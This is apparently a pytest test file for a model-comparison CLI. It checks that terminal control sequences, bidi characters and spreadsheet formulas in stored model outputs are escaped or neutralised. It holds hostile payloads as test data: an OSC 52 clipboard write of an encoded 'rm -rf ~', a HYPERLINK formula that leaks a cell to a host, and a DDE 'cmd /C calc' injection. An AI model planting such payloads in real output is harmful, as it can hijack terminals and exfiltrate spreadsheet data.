"""Hostile text on the way out: terminal control sequences in stored strings (outputs, vars, expected answers,
labels), emoji codes in errors, and spreadsheet formulas in CSV exports (audit findings F4, F5, F10)."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import urllib.parse

import pytest

#: what an attacker puts in a model's answer: OSC 52 (write the clipboard), OSC 0 (window title), clear the
#: screen, a colour, C1 CSI, a bidi override, a carriage return that overwrites the line, a bell, a backspace
HOSTILE = ("ok \x1b]52;c;cm0gLXJmIH4K\x07 \x1b]0;PWNED\x1b\\ \x1b[2J \x1b[1;31mFAKE\x1b[0m \x9b2J "
           "\u202eevil\u202c \u2066iso\u2069 over\rwrite bell\x07 back\x08 q:x:")
SGR = re.compile(r"\x1b\[[0-9;]*m")


def tryouts(*args, env=None):
    return subprocess.run([sys.executable, "-m", "tryouts", *args], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "COLUMNS": "200", **(env or {})})


def assert_inert(out: str, *, colour: bool) -> None:
    """No control character reaches the terminal but Rich's own SGR colour codes; the data shows escaped."""
    rest = SGR.sub("", out) if colour else out
    assert "\x1b" not in rest and "\x9b" not in rest and "\x07" not in rest and "\x08" not in rest
    assert "\r" not in rest and not re.search("[\u202a-\u202e\u2066-\u2069]", rest)
    assert "␛]52;c;cm0gLXJmIH4K" in rest and "␛[2J" in rest and "\\x9b2J" in rest
    assert "\\u202eevil" in rest and "\\u2066iso\\u2069" in rest
    assert "q:x:" in rest and "❌" not in rest  # no emoji codes either
    if colour:
        assert SGR.search(out), "colour was meant to be on"


@pytest.fixture
def db(tmp_path):
    return str(tmp_path / "out.db")


def _ref(replay: str, text: str) -> str:
    return f"openai-compat:{replay}#text={urllib.parse.quote(text, safe='')}"


def test_show_and_compare_print_control_characters_escaped(replay_server, db):
    p = tryouts("compare", "hi", "-m", _ref(replay_server, HOSTILE), "--db", db)
    assert p.returncode == 0, p.stderr
    assert_inert(p.stdout, colour=False)
    for colour in (False, True):
        env = {"FORCE_COLOR": "1"} if colour else {"NO_COLOR": "1"}
        p = tryouts("show", "latest", "--db", db, env=env)
        assert p.returncode == 0, p.stderr
        assert_inert(p.stdout, colour=colour)
        assert "over␍write" in SGR.sub("", p.stdout)  # a carriage return is shown, not obeyed or dropped
    p = tryouts("show", "latest", "--db", db, "-f", "json")  # JSON keeps the exact text
    assert json.loads(p.stdout)["results"][0]["text"] == HOSTILE


def test_suite_vars_expected_and_outputs_are_escaped(replay_server, db, tmp_path):
    suite = tmp_path / "suite.yaml"
    # YAML double-quoted escapes: \e is ESC, \a BEL, \u202e a bidi override
    suite.write_text(
        "models:\n"
        f"  - model: \"{_ref(replay_server, HOSTILE)}\"\n"
        "    label: tiny\n"
        "prompts:\n  - \"Say {{x}}\"\n"
        "cases:\n"
        "  - vars: {x: \"\\e]0;PWNED-TITLE\\e\\\\\\e[2J\\e]52;c;cm0gLXJmIH4K\\a\"}\n"
        "    expected: \"\\e[8mhidden \\u202eevil\"\n",
        encoding="utf-8")
    p = tryouts("run", str(suite), "--db", db)
    assert p.returncode in (0, 2), p.stderr
    for colour in (False, True):
        p = tryouts("show", "latest", "--db", db, env={"FORCE_COLOR": "1"} if colour else {"NO_COLOR": "1"})
        assert p.returncode == 0, p.stderr
        assert_inert(p.stdout, colour=colour)
        plain = SGR.sub("", p.stdout)
        assert "vars: x=␛]0;PWNED-TITLE␛\\␛[2J␛]52;c;cm0gLXJmIH4K␇" in plain
        assert "expected: ␛[8mhidden \\u202eevil" in plain


def test_errors_keep_emoji_codes_and_brackets_as_text(db, tmp_path):
    suite = tmp_path / "s.yaml"
    suite.write_text('models:\n  - "openai:gpt-4o-mini"\nprompts: ["hi"]\nrepeats: "[/]q:x:"\n', encoding="utf-8")
    p = tryouts("run", str(suite), "--dry-run", "--db", db)
    assert p.returncode == 1
    assert "'[/]q:x:'" in p.stderr and "❌" not in p.stderr


def test_safe_console_keeps_rich_styling_and_cursor_codes():
    from rich.control import Control
    from rich.panel import Panel
    from rich.table import Table
    from rich.text import Text

    from tryouts.cli.render import FitConsole, SafeConsole, safe_text

    buf = io.StringIO()
    console = FitConsole(file=buf, force_terminal=True, color_system="standard", width=200)
    table = Table("Model")
    table.add_row(HOSTILE)  # a str cell (markup, emoji) and a Text cell
    table.add_row(Text(HOSTILE, style="red"))
    console.print(Text("A ", style="bold") + Text(HOSTILE, style="green"), Panel(Text(HOSTILE), title=Text(HOSTILE)),
                  table, ":x: " + HOSTILE)
    assert_inert(buf.getvalue(), colour=True)
    assert "\x1b[1mA \x1b[0m\x1b[1;32mok ␛]52" in buf.getvalue()  # styles stay on the same characters
    buf.seek(0)
    buf.truncate(0)
    console.control(Control.move_to(0, 0))  # Rich's own cursor codes (Live) are not data: they pass
    assert buf.getvalue() == "\x1b[1;1H"
    # the styled copy: spans moved with the characters they cover
    text = Text.assemble(("\x1b", "red"), ("ab", "bold"), "\u202e")
    copy = safe_text(text)
    assert copy.plain == "␛ab\\u202e" and [(s.start, s.end, s.style) for s in copy.spans] == [(0, 1, "red"),
                                                                                          (1, 3, "bold")]
    err = io.StringIO()
    SafeConsole(file=err, width=80).print("[bold]Error:[/] got :x: and \x1b[2J")
    assert err.getvalue() == "Error: got :x: and ␛[2J\n"


def test_visible_controls_keeps_newlines_and_tabs():
    from tryouts.report.safe_text import visible_controls

    assert visible_controls("a\tb\nc\r\nd") == "a\tb\nc\nd"
    assert visible_controls("a\rb\x00\x7f\x85\u2067") == "a␍b␀␡\\x85\\u2067"
    assert visible_controls("plain café ✓") == "plain café ✓"


def test_csv_export_neutralizes_formulas_but_keeps_numbers():
    from tryouts.report.export import export_run

    data = {"run": {"id": "r1"}, "results": [{
        "id": 1, "model": "m", "ok": True, "text": '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click")',
        "error": "+cmd|' /C calc'!A0", "label": "@SUM(1)", "tab": "\t=1+1", "cr": "\r=1", "dash": "-2+3",
        "number": -1.5, "number_text": "-1.5", "plus": "+3", "safe": "a=b", "case": {"vars": {"a": "=1"}},
        "empty": "", "none": None, "flag": False,
    }]}
    row = next(csv.DictReader(io.StringIO(export_run(data, "csv"), newline="")))
    assert row["text"] == '\'=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click")'
    assert row["error"] == "'+cmd|' /C calc'!A0" and row["label"] == "'@SUM(1)"
    assert row["tab"] == "'\t=1+1" and row["cr"] == "'\r=1" and row["dash"] == "'-2+3"
    assert row["number"] == "-1.5" and row["number_text"] == "-1.5" and row["plus"] == "+3"  # numbers stay numbers
    assert row["safe"] == "a=b" and row["case"] == '{"vars": {"a": "=1"}}' and row["flag"] == "false"
    assert row["empty"] == "" and row["none"] == ""
    # json and jsonl keep the exact text
    assert json.loads(export_run(data, "json"))["results"][0]["text"].startswith("=HYPERLINK")
    assert json.loads(export_run(data, "jsonl").splitlines()[0])["label"] == "@SUM(1)"


def test_load_points_csv_neutralizes_formulas():
    from tryouts.report.load_report import points_csv

    bench = {"run": {"id": "r1"}, "points": [{"profile": "=1+1", "request_rate": -1.5, "p50_ttft_ms": 3.0}]}
    row = next(csv.DictReader(io.StringIO(points_csv(bench))))
    assert row["profile"] == "'=1+1" and row["request_rate"] == "-1.5" and row["p50_ttft_ms"] == "3.0"


def test_export_csv_of_a_formula_answer(replay_server, db):
    answer = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for details")'
    assert tryouts("compare", "hi", "-m", _ref(replay_server, answer), "--db", db).returncode == 0
    p = tryouts("export", "latest", "--format", "csv", "--db", db)
    assert p.returncode == 0, p.stderr
    row = next(csv.DictReader(io.StringIO(p.stdout)))
    assert row["text"] == "'" + answer
    assert float(row["e2e_ms"]) >= 0  # a number column is written as the number


def test_markdown_diff_cells_show_control_characters_escaped():
    from tryouts.report.markdown import code, md

    assert "\x1b" not in md("a\x1b[2Jb") and "␛" in md("a\x1b[2Jb")
    assert code("x\u202ey") == "`x\\u202ey`"
